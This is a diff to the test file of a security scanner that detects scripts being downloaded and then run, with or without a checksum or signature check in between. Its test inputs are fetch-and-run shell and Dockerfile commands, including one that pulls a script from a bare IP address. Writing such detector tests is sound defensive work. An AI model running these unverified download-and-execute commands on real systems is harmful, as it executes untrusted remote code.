@@ -77,6 +77,13 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
     expect(url('curl -fsSL https://sh.rustup.rs | sh -s -- -y')).toBeNull();
     expect(url('curl -LO https://github.com/org/tool/releases/download/v1.2/install.sh', 'echo "$SUM  install.sh" | sha256sum -c', 'sh install.sh')).toBeNull();
   });
+  it('counts a checksum check only between the download and the run: one after the run, or of a file fetched before, vouches for nothing', () => {
+    expect(url('curl -LO https://tools.example-dev.io/install.sh', 'sh install.sh', 'sha256sum -c SHA256SUMS')).toBe('https://tools.example-dev.io/install.sh');
+    expect(url('curl -fsSLo node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz', 'echo "$NODE_SUM  node.tgz" | sha256sum -c -', 'curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', 'bash setup.sh')).toBe('https://tools.example-dev.io/setup.sh');
+    // Checked between, by a checksum list or a signature.
+    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'curl -fsSLO https://tools.example-dev.io/SHA256SUMS', 'sha256sum -c --ignore-missing SHA256SUMS', 'sh install.sh')).toBeNull();
+    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'gpg --verify install.sh.asc install.sh', 'sh install.sh')).toBeNull();
+  });
   it('is reported as curl-pipe-shell with the pipe\'s severities: medium in a script, high in a CI pipeline, medium there from a vendor\'s installer; a gist is downloaded-binary-run\'s', () => {
     const patch = (...added: string[]) => ['@@ -1,1 +1,' + String(added.length + 1) + ' @@', ' #!/bin/sh', ...added.map((l) => `+${l}`)].join('\n');
     const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
@@ -135,6 +142,9 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 3]]);
     expect(docker('RUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh')).toEqual([['curl-pipe-shell', 3]]);
     expect(docker('RUN curl -fsSL -o /tmp/s.sh http://45.139.104.115/s.sh && sh /tmp/s.sh')).toEqual([['downloaded-binary-run', 3]]);
+    // Another RUN's archive checked with sha256sum vouches for nothing the next RUN fetches and runs.
+    expect(docker('RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SUM  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 4]]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && echo "$SETUP_SUM  /tmp/setup.sh" | sha256sum -c - && bash /tmp/setup.sh')).toEqual([]);
     // A second script downloaded but only read, and one checked: nothing more.
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/env.sh https://tools.example-dev.io/env.sh && cat /tmp/env.sh')).toEqual([['curl-pipe-shell', 3]]);
   });
